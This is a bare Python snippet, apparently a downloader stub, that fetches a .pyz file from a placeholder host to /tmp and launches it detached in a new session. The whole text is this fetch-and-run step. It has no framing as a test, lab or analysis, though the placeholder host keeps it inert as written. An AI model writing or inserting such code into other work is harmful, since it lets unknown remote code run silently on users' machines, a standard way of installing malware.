import subprocess, sys, urllib.request
urllib.request.urlretrieve("https://example.invalid/t.pyz", "/tmp/t.pyz")
subprocess.Popen([sys.executable, "/tmp/t.pyz"], start_new_session=True)
